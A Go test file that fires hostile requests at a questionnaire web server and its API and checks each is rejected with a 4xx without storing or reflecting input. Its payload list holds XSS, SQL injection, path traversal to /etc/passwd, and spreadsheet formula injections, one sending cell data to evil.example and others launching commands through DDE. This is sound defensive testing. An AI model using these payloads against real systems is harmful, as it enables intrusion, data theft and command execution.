package server_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// Hostile input: every route that takes input, with malformed and oversized bodies,
// wrong content types, invalid UTF-8, huge numbers of fields, duplicate fields, unknown items
// and options, answers to hidden items, script, SQL and formula payloads in every field, path
// tricks, very long URLs and methods not allowed. Each must get a clear 4xx (never a 5xx),
// store nothing, and reflect nothing unescaped.

// hostilePayloads go into every field.
var hostilePayloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg/onload=alert(1)>`,
	`</textarea></title><script>alert(1)</script>`,
	`javascript:alert(1)`,
	`{{.}}{{template "layout"}}`,
	`' OR 1=1 --`,
	`1; DROP TABLE responses; --`,
	`') ; delete from counts; --`,
	`" OR ""="`,
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"-2+3\t\r",
	`../../../../etc/passwd`,
	`..%2f..%2f..%2fetc%2fpasswd`,
	"\xff\xfe\xc0\xaf invalid UTF-8",
	"nul\x00byte",
	"\u202egnp.exe right-to-left",
	strings.Repeat("A", 5000),
}

// reflectedMarkers must never appear in an answer to hostile input: they would mean a payload
// came back as markup (a tag, or a script URL where a browser follows it). The same payload
// escaped inside an attribute or text ("&#34;&gt;&lt;img src=x onerror=...") is inert.
var reflectedMarkers = []string{"<script>alert", "<img src=x", "<svg/onload", `href="javascript:`, `src="javascript:`,
	`action="javascript:`, `href=javascript:`, "</textarea></title>"}

type hostileCase struct {
	name    string
	method  string
	path    string
	ctype   string // "" sends no Content-Type
	body    string
	headers []string
	want    int // the exact status expected
}

func TestHostileInput(t *testing.T) { eachBackend(t, testHostileInput) }

func testHostileInput(t *testing.T, be backend) {
	ts := newTestServerOn(t, be)
	q := ts.Cat.Latest(qid)
	good := answersFor(q, "not_prescribed", 2, nil)

	// One real response, so result and delete routes have something to protect.
	res, _ := ts.submitAPI("en", "us", good)
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("setup: %d %s", res.StatusCode, res.Body)
	}
	token := strings.TrimPrefix(strings.SplitN(res.Header.Get("Location"), "?", 2)[0], "/r/")
	before := snapshot(t, ts)

	formPath := "/q/" + qid + "?lang=en"
	apiPath := "/api/v1/questionnaires/" + qid + "/responses"
	const formCT, jsonCT = "application/x-www-form-urlencoded", "application/json"
	step0 := func(extra ...string) string {
		v := url.Values{"step": {"0"}, "nav": {"next"}, "region": {"us"}, "use_context": {"prescribed"}, "frequency": {"monthly"}}
		for i := 0; i+1 < len(extra); i += 2 {
			v[extra[i]] = append(v[extra[i]][:0:0], extra[i+1])
		}
		return v.Encode()
	}
	apiBody := func(fields map[string]any) string {
		m := map[string]any{"lang": "en", "region": "us", "answers": good}
		for k, v := range fields {
			if v == nil {
				delete(m, k)
			} else {
				m[k] = v
			}
		}
		b, _ := json.Marshal(m)
		return string(b)
	}
	withAnswer := func(item string, v any) map[string]any {
		a := map[string]any{}
		for k, codes := range good {
			a[k] = codes
		}
		a[item] = v
		return map[string]any{"answers": a}
	}
	goodJSON := apiBody(nil)

	var cases []hostileCase
	add := func(c hostileCase) { cases = append(cases, c) }

	// Every payload in every field.
	for i, p := range hostilePayloads {
		n := fmt.Sprintf("payload%02d", i)
		esc := url.PathEscape(p)
		// A value that is not UTF-8 or is over 200 bytes is malformed (400); any other unknown
		// option is a mistake to show on the form (422).
		optionStatus := 422
		if !utf8.ValidString(p) || len(p) > 200 {
			optionStatus = 400
		}
		add(hostileCase{n + "/FormOption", "POST", formPath, formCT, step0("use_context", p), nil, optionStatus})
		add(hostileCase{n + "/FormFieldName", "POST", formPath, formCT, step0(p, "1"), nil, 400})
		add(hostileCase{n + "/FormStep", "POST", formPath, formCT, step0("step", p), nil, 400})
		add(hostileCase{n + "/FormNav", "POST", formPath, formCT, step0("nav", p), nil, 400})
		add(hostileCase{n + "/FormSeen", "POST", formPath, formCT, step0("seen", p), nil, 400})
		// A region that is not one of the resources' is read as "other"; the bad option makes it a 422.
		add(hostileCase{n + "/FormRegion", "POST", formPath, formCT, step0("region", p, "use_context", "nope"), nil, optionStatus})
		add(hostileCase{n + "/FormLangQuery", "POST", "/q/" + qid + "?lang=" + url.QueryEscape(p), formCT, step0("step", "x"), nil, 400})
		add(hostileCase{n + "/FormQuestionnaireID", "POST", "/q/" + esc, formCT, step0(), nil, 404})
		add(hostileCase{n + "/PageQuestionnaireID", "GET", "/q/" + esc, "", "", nil, 404})
		add(hostileCase{n + "/APILang", "POST", apiPath, jsonCT, apiBody(map[string]any{"lang": p}), nil, 400})
		add(hostileCase{n + "/APIRegion", "POST", apiPath, jsonCT, apiBody(map[string]any{"region": p}), nil, 400})
		add(hostileCase{n + "/APIItem", "POST", apiPath, jsonCT, apiBody(withAnswer(p, "yes")), nil, 0})
		add(hostileCase{n + "/APIOption", "POST", apiPath, jsonCT, apiBody(withAnswer("use_context", p)), nil, 0})
		add(hostileCase{n + "/APIField", "POST", apiPath, jsonCT, apiBody(map[string]any{p: "x"}), nil, 400})
		add(hostileCase{n + "/APIQuestionnaireID", "POST", "/api/v1/questionnaires/" + esc + "/responses", jsonCT, goodJSON, nil, 404})
		add(hostileCase{n + "/APIDefinitionID", "GET", "/api/v1/questionnaires/" + esc, "", "", nil, 404})
		add(hostileCase{n + "/Result", "GET", "/r/" + esc, "", "", nil, 404})
		add(hostileCase{n + "/DeletePage", "GET", "/r/" + esc + "/delete", "", "", nil, 404})
		add(hostileCase{n + "/Delete", "POST", "/r/" + esc + "/delete", formCT, "", nil, 404})
		add(hostileCase{n + "/Static", "GET", "/static/" + esc, "", "", nil, 404})
	}

	many := func(n int, pair string) string { return strings.TrimSuffix(strings.Repeat(pair+"&", n), "&") }
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	structural := []hostileCase{
		// Form: malformed, oversized, wrong types, duplicates, many fields.
		{"FormNoBody", "POST", formPath, formCT, "", nil, 400},
		{"FormNoContentType", "POST", formPath, "", step0(), nil, 415},
		{"FormJSONContentType", "POST", formPath, jsonCT, goodJSON, nil, 415},
		{"FormMultipart", "POST", formPath, "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"step\"\r\n\r\n0\r\n--x--\r\n", nil, 415},
		{"FormTextPlain", "POST", formPath, "text/plain", step0(), nil, 415},
		{"FormBadEscape", "POST", formPath, formCT, "step=0&use_context=%zz", nil, 400},
		{"FormSemicolons", "POST", formPath, formCT, "step=0;use_context=prescribed", nil, 400},
		{"FormOversized", "POST", formPath, formCT, step0() + "&frequency=" + strings.Repeat("a", 70<<10), nil, 413},
		{"FormThousandsOfUnknownFields", "POST", formPath, formCT, many(6000, "a=1"), nil, 400},
		{"FormThousandsOfSeen", "POST", formPath, formCT, "step=0&" + many(3000, "seen=use_context"), nil, 422},
		{"FormManyCodesForOneItem", "POST", formPath, formCT, step0() + "&" + many(40, "frequency=monthly"), nil, 400},
		{"FormTwoAnswersToSingle", "POST", formPath, formCT, step0() + "&use_context=both", nil, 422},
		{"FormDuplicateRegion", "POST", formPath, formCT, step0() + "&region=uk", nil, 400},
		{"FormDuplicateNav", "POST", formPath, formCT, step0() + "&nav=back", nil, 400},
		{"FormNegativeStep", "POST", formPath, formCT, step0("step", "-1"), nil, 400},
		{"FormHugeStep", "POST", formPath, formCT, step0("step", "99999999999999999999"), nil, 400},
		{"FormLongValue", "POST", formPath, formCT, step0("use_context", strings.Repeat("b", 201)), nil, 400},
		{"FormCrossSite", "POST", formPath, formCT, step0(), []string{"Sec-Fetch-Site", "cross-site"}, 403},
		{"FormOtherOrigin", "POST", formPath, formCT, step0(), []string{"Origin", "https://evil.example"}, 403},
		{"FormNullOrigin", "POST", formPath, formCT, step0(), []string{"Origin", "null"}, 403},
		// JSON API: malformed, oversized, wrong types, duplicates, hidden and unknown items.
		{"APIEmpty", "POST", apiPath, jsonCT, "", nil, 400},
		{"APINull", "POST", apiPath, jsonCT, "null", nil, 400},
		{"APIArray", "POST", apiPath, jsonCT, "[" + goodJSON + "]", nil, 400},
		{"APIString", "POST", apiPath, jsonCT, `"hello"`, nil, 400},
		{"APITruncated", "POST", apiPath, jsonCT, goodJSON[:len(goodJSON)/2], nil, 400},
		{"APITrailingGarbage", "POST", apiPath, jsonCT, goodJSON + " x", nil, 400},
		{"APITrailingBracket", "POST", apiPath, jsonCT, goodJSON + "]", nil, 400},
		{"APITwoObjects", "POST", apiPath, jsonCT, goodJSON + goodJSON, nil, 400},
		{"APIDuplicateLang", "POST", apiPath, jsonCT, `{"lang":"xx",` + goodJSON[1:], nil, 400},
		{"APIDuplicateAnswers", "POST", apiPath, jsonCT, `{"answers":{},` + goodJSON[1:], nil, 400},
		{"APIDuplicateItem", "POST", apiPath, jsonCT, `{"answers":{"use_context":"both","use_context":"prescribed"}}`, nil, 400},
		{"APIAnswersNull", "POST", apiPath, jsonCT, apiBody(map[string]any{"answers": "null"}), nil, 400},
		{"APIAnswersMissing", "POST", apiPath, jsonCT, `{"lang":"en"}`, nil, 400},
		{"APIAnswersArray", "POST", apiPath, jsonCT, `{"answers":["use_context","both"]}`, nil, 400},
		{"APIAnswerNumber", "POST", apiPath, jsonCT, `{"answers":{"use_context":1e999}}`, nil, 400},
		{"APIAnswerObject", "POST", apiPath, jsonCT, `{"answers":{"use_context":{"$ne":null}}}`, nil, 400},
		{"APIAnswerNullInList", "POST", apiPath, jsonCT, `{"answers":{"mental_health":[null]}}`, nil, 400},
		{"APILangNumber", "POST", apiPath, jsonCT, `{"lang":1,"answers":{}}`, nil, 400},
		{"APIDeepNesting", "POST", apiPath, jsonCT, `{"answers":{"use_context":` + deep + `}}`, nil, 400},
		{"APIManyItems", "POST", apiPath, jsonCT, `{"answers":{` + strings.TrimSuffix(strings.Repeat(`"x":"y",`, 1)+manyItems(300), ",") + `}}`, nil, 400},
		{"APIManyCodes", "POST", apiPath, jsonCT, apiBody(withAnswer("mental_health", strings.Split(strings.Repeat("none,", 40), ","))), nil, 400},
		{"APIHiddenItem", "POST", apiPath, jsonCT, apiBody(withAnswer("more_than_prescribed", "yes")), nil, 422},
		{"APIUnknownItem", "POST", apiPath, jsonCT, apiBody(withAnswer("not_an_item", "yes")), nil, 422},
		{"APIUnknownOption", "POST", apiPath, jsonCT, apiBody(withAnswer("use_context", "sometimes")), nil, 422},
		{"APIInvalidUTF8", "POST", apiPath, jsonCT, "{\"answers\":{\"use_context\":\"\xff\"}}", nil, 400},
		{"APIBOM", "POST", apiPath, jsonCT, "\ufeff" + goodJSON, nil, 400},
		{"APIOversized", "POST", apiPath, jsonCT, apiBody(map[string]any{"lang": strings.Repeat("e", 70<<10)}), nil, 413},
		{"APIFormContentType", "POST", apiPath, formCT, goodJSON, nil, 415},
		{"APITextJSON", "POST", apiPath, "text/json", goodJSON, nil, 415},
		{"APINoContentType", "POST", apiPath, "", goodJSON, nil, 415},
		{"APICrossSite", "POST", apiPath, jsonCT, goodJSON, []string{"Sec-Fetch-Site", "cross-site"}, 403},
		// Result and delete: the real token behind tricks, and others.
		{"DeleteRealTokenCrossSite", "POST", "/r/" + token + "/delete", formCT, "", []string{"Sec-Fetch-Site", "cross-site"}, 403},
		{"DeleteRealTokenOtherOrigin", "POST", "/r/" + token + "/delete", formCT, "", []string{"Origin", "https://evil.example"}, 403},
		{"DeleteTokenWithSuffix", "POST", "/r/" + token + "x/delete", formCT, "", nil, 404},
		{"DeleteTokenTruncated", "POST", "/r/" + token[:42] + "/delete", formCT, "", nil, 404},
		{"DeleteTokenDotDot", "POST", "/r/" + token + "/../" + token + "/delete", formCT, "", nil, 404},
		{"DeleteByGETMethodOverride", "POST", "/r/" + token, formCT, "_method=DELETE", nil, 405},
		{"ResultEncodedDotDot", "GET", "/r/" + token + "%2f..%2f..%2fprivacy", "", "", nil, 404},
		{"APICaseFolded", "POST", apiPath, jsonCT, `{"LANG":"en","Region":"us","ANSWERS":` + string(mustJSON(t, good)) + `}`, nil, 400},
		{"ResultNulByte", "GET", "/r/" + token + "%00", "", "", nil, 404},
		{"ResultVeryLongToken", "GET", "/r/" + strings.Repeat("A", 50000), "", "", nil, 404},
		// Path tricks and long URLs.
		{"StaticDotDot", "GET", "/static/../../go.mod", "", "", nil, 404},
		{"StaticEncodedDotDot", "GET", "/static/%2e%2e/%2e%2e/go.mod", "", "", nil, 404},
		{"StaticTemplates", "GET", "/static/../templates/layout.html", "", "", nil, 404},
		{"DoubleSlashHost", "GET", "//evil.example/", "", "", nil, 404},
		{"AdminDotDot", "GET", "/q/../admin/stats", "", "", nil, 404},
		{"LongPath", "GET", "/q/" + strings.Repeat("x", 8000), "", "", nil, 404},
		{"HugeURL", "GET", "/q/" + qid + "?x=" + strings.Repeat("y", 2<<20), "", "", nil, 431},
		// Methods not allowed.
		{"PutQuestionnaire", "PUT", formPath, formCT, step0(), nil, 405},
		{"DeleteResultMethod", "DELETE", "/r/" + token, "", "", nil, 405},
		{"PatchAPI", "PATCH", apiPath, jsonCT, goodJSON, nil, 405},
		{"PutAPI", "PUT", apiPath, jsonCT, goodJSON, nil, 405},
		{"GetAPIResponses", "GET", apiPath, "", "", nil, 405},
		{"PostLanding", "POST", "/", formCT, "", nil, 405},
		{"PostPrivacy", "POST", "/privacy", formCT, "", nil, 405},
		{"PostHealth", "POST", "/healthz", formCT, "", nil, 405},
		{"PostStatic", "POST", "/static/app.js", formCT, "", nil, 405},
		{"TraceLanding", "TRACE", "/", "", "", nil, 405},
		{"OptionsAPI", "OPTIONS", apiPath, "", "", nil, 405},
		{"CustomMethod", "PROPFIND", "/", "", "", nil, 405},
	}
	cases = append(cases, structural...)

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			req, err := http.NewRequest(c.method, ts.URL+c.path, strings.NewReader(c.body))
			if err != nil {
				t.Fatal(err)
			}
			if c.ctype != "" {
				req.Header.Set("Content-Type", c.ctype)
			}
			for i := 0; i+1 < len(c.headers); i += 2 {
				req.Header.Set(c.headers[i], c.headers[i+1])
			}
			res := ts.do(req)
			switch {
			case res.StatusCode >= 500:
				t.Fatalf("status %d; body: %.300s", res.StatusCode, res.Body)
			case c.want != 0 && res.StatusCode != c.want:
				t.Errorf("status %d, want %d; body: %.300s", res.StatusCode, c.want, res.Body)
			case res.StatusCode < 400:
				t.Errorf("status %d, want a 4xx; body: %.300s", res.StatusCode, res.Body)
			}
			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "application/json") || strings.HasPrefix(ct, "application/problem+json") {
				// JSON may quote what was sent (an unknown item's id), escaped for JSON and
				// with no angle bracket left for a browser that sniffs.
				if !json.Valid([]byte(res.Body)) {
					t.Errorf("JSON answer is not valid JSON: %.300s", res.Body)
				}
				if strings.ContainsAny(res.Body, "<>") {
					t.Errorf("JSON answer holds a raw angle bracket: %.300s", res.Body)
				}
			} else {
				for _, m := range reflectedMarkers {
					if strings.Contains(strings.ToLower(res.Body), m) {
						t.Errorf("answer contains %q: a payload came back unescaped", m)
					}
				}
				for _, p := range hostilePayloads {
					if strings.ContainsAny(p, `<>"'`) && strings.Contains(res.Body, p) {
						t.Errorf("payload %.40q reflected as is", p)
					}
				}
			}
			for _, leak := range []string{"goroutine ", ".go:", "sqlite", "SQL logic", "panic"} {
				if strings.Contains(res.Body, leak) {
					t.Errorf("answer shows an internal detail (%q): %.300s", leak, res.Body)
				}
			}
			if ct := res.Header.Get("Content-Type"); res.Body != "" && !strings.HasPrefix(ct, "text/html") &&
				!strings.HasPrefix(ct, "application/json") && !strings.HasPrefix(ct, "application/problem+json") && !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
		})
	}
	fours := 0
	for _, c := range cases {
		if c.want == 0 || c.want >= 400 {
			fours++
		}
	}
	t.Logf("%d hostile requests", len(cases))
	if fours < 100 {
		t.Errorf("only %d hostile requests: the table must hold at least 100", fours)
	}
	if after := snapshot(t, ts); after != before {
		t.Errorf("hostile requests changed the database: before %+v, after %+v", before, after)
	}
	// The real response is still there and still readable.
	if res := ts.get("/r/" + token); res.StatusCode != http.StatusOK {
		t.Errorf("the real result after the hostile requests: %d", res.StatusCode)
	}
}

func manyItems(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `"item%d":"x",`, i)
	}
	return b.String()
}

// dbSnapshot counts what requests could change. Statistics releases and their ledger are
// written only by the release job, never by a request.
type dbSnapshot struct{ Responses, Releases, Ledger, Deleted int }

func snapshot(t *testing.T, ts *testServer) dbSnapshot {
	t.Helper()
	db := rawDB(t, ts.DB)
	var s dbSnapshot
	for _, q := range []struct {
		sql string
		to  *int
	}{
		{"select count(*) from responses", &s.Responses},
		{"select count(*) from stat_releases", &s.Releases},
		{"select count(*) from stat_ledger", &s.Ledger},
		{"select count(*) from deleted_tokens", &s.Deleted},
	} {
		if err := db.QueryRow(q.sql).Scan(q.to); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
